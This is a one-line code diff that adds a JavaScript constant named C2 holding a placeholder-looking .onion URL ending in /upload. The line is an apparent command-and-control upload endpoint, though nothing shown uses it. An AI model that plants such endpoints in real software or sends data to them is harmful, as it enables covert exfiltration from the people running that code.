@@ -1,0 +1,1 @@
+const C2 = "http://abcdefghijklmnopqrstuvwx234567ab.onion/upload";
